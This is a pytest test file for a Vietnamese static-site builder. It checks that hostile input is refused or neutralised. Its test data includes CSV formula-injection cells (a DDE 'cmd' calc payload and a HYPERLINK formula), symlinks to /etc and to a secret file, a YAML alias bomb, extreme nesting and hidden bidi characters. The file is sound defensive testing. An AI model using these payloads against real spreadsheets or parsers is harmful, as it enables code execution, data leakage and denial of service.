"""Hostile input (issue 14, points 5–8) on copies of the project.

Either the build refuses with one message naming the file (and line) and
quoting nothing beyond a short excerpt, or what it publishes is harmless: CSV
cells a spreadsheet would run as formulas start with an apostrophe.

The refusals are tested as units on the check that makes them (data.load,
files.check_page, paths.check_symlinks, the figures' and home's path checks);
a symlinked page is still built end to end (nothing published, no traceback).
"""
from __future__ import annotations

import csv
import io
import os

import pytest
from bs4 import BeautifulSoup

from errorunit import data_copy, project_data
from kehoach.anchors import html as anchors
from kehoach.checks import files, paths
from kehoach.core import data, htmltree
from kehoach.core import tabular as csvout
from kehoach.core.errors import SiteError
from kehoach.figures import model as figures
from kehoach.plan import home
from kehoach.register import linker
from kehoach.register import model as register_mod
from siteutil import PLAN, ROOT, repo_of, build_fails, copy_project, edit_file, not_held_to_record, run_build

SECRET = "KH-SECRET-7f3a9 mật khẩu của máy dựng"


def _line(path, needle) -> int:
    lines = path.read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(lines, 1) if needle in line)


def refusal(fn, *args) -> str:
    """The message `fn(*args)` refuses its input with."""
    with pytest.raises(SiteError) as info:
        fn(*args)
    return str(info.value)


def data_refusal(project, name: str) -> str:
    return refusal(data.load, name, project_data(project))


PAGE = "docs/ve-trang-nay/ghi-chu-van-ban.md"


def page_text() -> str:
    return (PLAN / PAGE).read_text(encoding="utf-8")


def page_refusal(text: str) -> str:
    return refusal(files.check_page, PAGE, text.encode("utf-8"))


def _one_message(out: str, where: str) -> None:
    """Exactly one of our messages, naming `where`."""
    assert where in out, out
    assert out.count("[EN]") in (1, 2), out  # the problem in English, and its fix
    assert out.count("Cách sửa:") == 1, out
    assert "Traceback" not in out and "Segmentation" not in out


@pytest.fixture
def project(tmp_path):
    return copy_project(tmp_path / "p")


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "outside.md"
    path.write_text(f"# Ngoài kho\n\n{SECRET}\n", encoding="utf-8")
    return path


# --- 5. CSV downloads -------------------------------------------------------

def _csv_rows(site, rel):
    raw = (site / rel).read_bytes()
    assert raw.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_formula_cells_neutralised_in_all_three_downloads(project, tmp_path):
    hyperlink = '=HYPERLINK("https://example.invalid/?q="&A1,"Bấm vào đây")'
    edit_file(project / "data/indicators.yml", 'name: "CHỈ TIÊU"', f"name: '{hyperlink}'")
    edit_file(project / "data/figures.yml", 'place: "Phần I, mục 4"', 'place: "+1"')
    edit_file(project / "data/register.yml", "subject: về chương trình tổng thể CCHC nhà nước giai đoạn 2021-2030\n",
              "subject: \"@SUM(1+1)*cmd|' /C calc'!A0 về chương trình\"\n")
    edit_file(project / "data/register.yml", "issuer: Ban Chấp hành Trung ương khóa XII",
              'issuer: "-2+3 Ban"')  # a tab in front is refused by the loader (tests/core/test_yaml_values.py)
    # A formula in a cell of the plan's table is no longer the signed text: this copy is
    # not held to record/, so that the cell reaches the CSV the test reads.
    not_held_to_record(project)
    result = run_build(project, tmp_path / "site")
    assert result.returncode == 0, result.output

    table = _csv_rows(result.site, "du-lieu/bieu-mau-06.csv")
    assert table[0][1] == "'" + hyperlink
    assert table[1][:5] == ["1", "Thứ hạng năng lực cạnh tranh cấp tỉnh PCI", "", "27", "25"]  # numbers stay

    figures = _csv_rows(result.site, "du-lieu/chi-so.csv")
    par = [row for row in figures[1:] if row[1] == "par-index"]
    assert par[0][7] == "'+1"
    assert par[0][4] == "81.84" and par[0][5] == "100"  # numbers stay numbers

    register = _csv_rows(result.site, "van-ban/danh-muc-van-ban.csv")
    header = register[0]
    subjects = [row[header.index("subject")] for row in register[1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 về chương trình" in subjects
    issuers = [row[header.index("issuer")] for row in register[1:]]
    assert "'-2+3 Ban" in issuers
    cells = [cell for rows in (table, figures, register) for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cell_rules():
    assert csvout.cell(-3.5) == -3.5 and csvout.cell(12) == 12
    assert csvout.cell("-3.5") == "-3.5" and csvout.cell("-12") == "-12"  # a number written as text
    assert csvout.cell("-3.5+A1") == "'-3.5+A1"
    assert csvout.cell("\r=1") == "'\r=1"
    assert csvout.cell(None) == "" and csvout.cell("Tăng 9,3%") == "Tăng 9,3%"


# --- 6. Nothing from outside the repository ---------------------------------

def test_symlinked_page_refused_and_not_quoted(project, tmp_path, secret_file):
    os.symlink(secret_file, project / "docs/bi-mat.md")
    out = build_fails(project, tmp_path)
    _one_message(out, "docs/bi-mat.md")
    assert "liên kết tượng trưng (symlink)" in out
    assert SECRET not in out


def test_symlinked_data_file_refused_and_not_quoted(tmp_path, secret_file):
    project = data_copy(tmp_path)
    (project / "data/plan.yml").unlink()
    os.symlink(secret_file, project / "data/plan.yml")
    out = data_refusal(project, "plan")
    _one_message(out, "data/plan.yml")
    assert SECRET not in out


def test_symlinked_folder_under_overrides_refused(tmp_path):
    project = copy_project(tmp_path / "p", ["overrides"])
    os.symlink("/etc", repo_of(project) / "overrides/etc")  # shared by every plan
    out = refusal(paths.check_symlinks, project)
    _one_message(out, "overrides/etc")


def test_error_quotes_only_a_short_excerpt(tmp_path):
    """A data file that is not what it should be (here: plain text) is quoted by its first line, cut short."""
    project = data_copy(tmp_path)
    first = "Dòng đầu " + "x" * 300
    (project / "data/plan.yml").write_text(f"{first}\n{SECRET}\n", encoding="utf-8")
    out = data_refusal(project, "plan")
    _one_message(out, "data/plan.yml")
    assert SECRET not in out
    assert "x" * 200 not in out and "Dòng đầu " + "x" * 100 in out


@pytest.mark.parametrize("rel, old, new", [
    ("data/figures.yml", 'page: "phan-1/ket-qua/cai-cach-hanh-chinh.md"', 'page: "{outside}"'),
    ("data/home.yml", "link: phan-1/index.md", "link: {outside}"),
])
def test_data_paths_must_stay_inside_docs(tmp_path, tmp_path_factory, rel, old, new):
    project = data_copy(tmp_path)
    outside = tmp_path_factory.mktemp("ngoai") / "bi-mat.md"  # an absolute path the schema's characters allow
    outside.write_text(f"# Ngoài kho\n\n{SECRET}\n", encoding="utf-8")
    outside = outside.as_posix()
    path = project / rel
    edit_file(path, old, new.format(outside=outside))
    docs = str(PLAN / "docs")
    if rel == "data/figures.yml":
        out = refusal(figures.load, project_data(project), docs)
    else:
        out = refusal(lambda: home.check(data.load("home", project_data(project)), docs))
    _one_message(out, f"{rel}, dòng {_line(path, outside)}")
    assert "phải là đường dẫn tương đối nằm trong thư mục docs/" in out
    assert SECRET not in out


# --- 7. Limits that fail cleanly --------------------------------------------

ALIAS_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(ord('a') + i + 1)}: &{chr(ord('a') + i + 1)} [{','.join(['*' + chr(ord('a') + i)] * 9)}]"
       for i in range(8)]
) + "\n"


def test_yaml_alias_bomb_in_data_file(tmp_path):
    assert len(ALIAS_BOMB) < 1100
    project = data_copy(tmp_path)
    (project / "data/plan.yml").write_text(ALIAS_BOMB, encoding="utf-8")
    out = data_refusal(project, "plan")
    _one_message(out, "data/plan.yml, dòng 1")
    assert "neo và bí danh YAML (&tên, *tên)" in out


def test_yaml_alias_in_front_matter():
    out = page_refusal("---\n" + ALIAS_BOMB + "---\n" + page_text())
    _one_message(out, "docs/ve-trang-nay/ghi-chu-van-ban.md, dòng 2")
    assert "neo và bí danh YAML" in out


def test_deeply_nested_data_file(tmp_path):
    project = data_copy(tmp_path)
    (project / "data/plan.yml").write_text("number: 1\ndeep: " + "[" * 30000 + "]" * 30000 + "\n", encoding="utf-8")
    out = data_refusal(project, "plan")
    _one_message(out, "data/plan.yml, dòng 2")
    assert "lồng quá sâu" in out


def test_deeply_nested_front_matter():
    out = page_refusal("---\ntitle: " + "[" * 30000 + "\n---\n" + page_text())
    _one_message(out, "docs/ve-trang-nay/ghi-chu-van-ban.md, dòng 2")
    assert "lồng quá sâu" in out


def test_data_file_too_large(tmp_path):
    project = data_copy(tmp_path)
    path = project / "data/register.yml"
    path.write_text(path.read_text(encoding="utf-8") + ("# " + "đệm " * 60 + "\n") * 9000, encoding="utf-8")
    out = data_refusal(project, "register")
    _one_message(out, "data/register.yml")
    assert "Tệp quá lớn" in out


@pytest.mark.parametrize("nesting", [">" * 30000 + " sâu", "- " * 30000 + "sâu", "[" * 30000 + "sâu" + "]" * 30000])
def test_markdown_nested_too_deeply(nesting):
    text = page_text() + "\n" + nesting + "\n"
    out = page_refusal(text)
    line = next(i for i, line in enumerate(text.splitlines(), 1) if "sâu" in line)
    _one_message(out, f"docs/ve-trang-nay/ghi-chu-van-ban.md, dòng {line}")
    assert "lồng quá sâu" in out


def test_ten_thousand_citations_in_one_paragraph_all_linked():
    reg = register_mod.load(project_data(PLAN))
    numbered = [e for e in reg.entries if e.number]
    cited = [numbered[i % len(numbered)] for i in range(10_000)]
    html = '<h2 id="muc">Mục</h2>\n<p>Theo ' + "; ".join(f"{e.kind} số {e.number}" for e in cited) + ".</p>"
    root = htmltree.parse(html)
    anchors.assign(root, [])  # as kehoach/hooks.py does first
    result = linker.link_page(root, reg, lambda e: f"../van-ban/{e.id}/")
    assert result.problems == []
    links = BeautifulSoup(htmltree.serialize(root), "html.parser").select("p a.kh-cite")
    assert len(links) == 10_000 == len(result.places)
    assert [a["data-doc"] for a in links] == [e.id for e in cited]
    assert [a.get_text() for a in links[:2]] == [f"{e.kind} số {e.number}" for e in cited[:2]]
    assert all(p.anchor == "muc-doan-1" for p in result.places)


# --- 8. Text that is what it looks like -------------------------------------

def test_id_with_trailing_newline_refused(tmp_path):
    project = data_copy(tmp_path)
    path = project / "data/register.yml"
    edit_file(path, "- id: nghi-quyet-18-nq-tw\n", '- id: "nghi-quyet-18-nq-tw\\n"\n')
    out = data_refusal(project, "register")
    _one_message(out, f"data/register.yml, dòng {_line(path, 'nghi-quyet-18-nq-tw')}")
    assert "không đúng định dạng (giá trị có dấu xuống dòng" in out


@pytest.mark.parametrize("rel, old, char, name", [
    ("docs/ve-trang-nay/ghi-chu-van-ban.md", "văn bản", "\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("docs/ve-trang-nay/ghi-chu-van-ban.md", "văn bản", "\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE"),
    ("data/plan.yml", "Vũ Mạnh Hùng", "\u200b", "U+200B ZERO WIDTH SPACE"),
    ("data/register.yml", "number: 18-NQ/TW", "\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
])
def test_hidden_characters_refused(tmp_path, rel, old, char, name):
    project = data_copy(tmp_path)
    text = (PLAN / rel).read_text(encoding="utf-8")
    at = text.index(old) + 2
    hidden = text[:at] + char + text[at:]
    line = text.count("\n", 0, at) + 1
    if rel.startswith("data/"):
        (project / rel).write_text(hidden, encoding="utf-8")
        out = data_refusal(project, rel[len("data/"):-len(".yml")])
    else:
        out = refusal(files.check_page, rel, hidden.encode("utf-8"))
    _one_message(out, f"{rel}, dòng {line}")
    assert name in out


def test_decomposed_text_refused():
    text = page_text()
    at = text.index("văn bản")
    out = page_refusal(text[:at] + "va\u0306n bản" + text[at + len("văn bản"):])
    _one_message(out, f"docs/ve-trang-nay/ghi-chu-van-ban.md, dòng {text.count(chr(10), 0, at) + 1}")
    assert "NFD" in out and "U+0306 COMBINING BREVE" in out
